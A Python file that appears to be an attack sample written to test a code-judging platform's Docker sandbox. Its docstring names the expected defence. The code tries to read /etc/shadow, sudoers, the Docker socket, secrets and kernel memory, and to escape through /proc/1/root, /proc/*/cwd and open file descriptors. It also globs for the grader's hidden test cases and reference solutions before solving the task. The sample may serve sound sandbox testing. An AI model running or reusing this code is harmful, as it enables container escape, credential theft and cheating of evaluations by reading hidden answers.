"""Reads the host's files.

Mechanism: reads the host's passwords, keys, tokens, the platform's folders and data, the other side of /proc, and
  climbs out by /proc/*/root, /proc/*/cwd and every descriptor that is open.
Surface: the host's files and processes that a box sees.
Gain: hidden cases, references, other people's sources, secrets of the platform, keys of its administrator.
Challenge: twice
Defence: runtime_error
Box: docker
Secret: /etc/shadow, /etc/passwd, /etc/hostname
"""

import glob
import os
import sys

won, refused = [], []


def attempt(name, action):
    try:
        found = action()
    except Exception as error:
        refused.append(f"{name}: {error}")
    else:
        (won if found else refused).append(name)


TOOLCHAIN = tuple(
    {sys.prefix, sys.base_prefix, os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix)}
)
WANTED = """/etc/shadow /etc/gshadow /etc/sudoers /etc/machine-id /etc/ssl/private /root /home /srv /mnt /media
/boot /var/lib /var/log /var/spool /run/secrets /var/run/docker.sock /etc/docker /etc/kubernetes /.dockerenv.d
/dev/sda /dev/vda /dev/mem /dev/kmem /dev/kmsg /proc/kcore /proc/1/root/etc/shadow /proc/1/cwd/../etc/shadow
/proc/self/root/root /proc/sysrq-trigger /proc/keys /proc/key-users /proc/timer_list /proc/sched_debug /proc/scsi
/sys/firmware/efi /sys/kernel/debug /sys/kernel/security /sys/fs/bpf""".split()


def files_below(top):
    """Files outside the toolchain; host folders on the way to it are empty."""
    found = []
    for folder, folders, files in os.walk(top):
        where = os.path.realpath(folder).replace("/proc/self/root", "")
        if where.startswith(TOOLCHAIN):
            folders.clear()
        else:
            found += [os.path.join(folder, name) for name in files]
    return found


def read(path):
    def action():
        if os.path.isdir(path):
            return files_below(path)
        with open(path, "rb") as file:
            return file.read(64)

    attempt(path, action)


for path in WANTED:
    read(path)
for pattern in ("/*/*hidden_cases*", "/*/*/hidden_cases*", "/*/*/staff", "/*/*/reference", "/*/*/*/staff"):
    for path in glob.glob(pattern):
        read(path)
for number in os.listdir("/proc/self/fd"):
    where = os.path.realpath(f"/proc/self/fd/{number}")
    if int(number) > 2 and os.path.isdir(where) and not where.startswith("/proc"):
        read(f"/proc/self/fd/{number}/../../etc/shadow")


def solve(x, out, n):
    if not won:
        raise PermissionError("; ".join(refused))
    print("won:", won)
    out.copy_(2 * x)
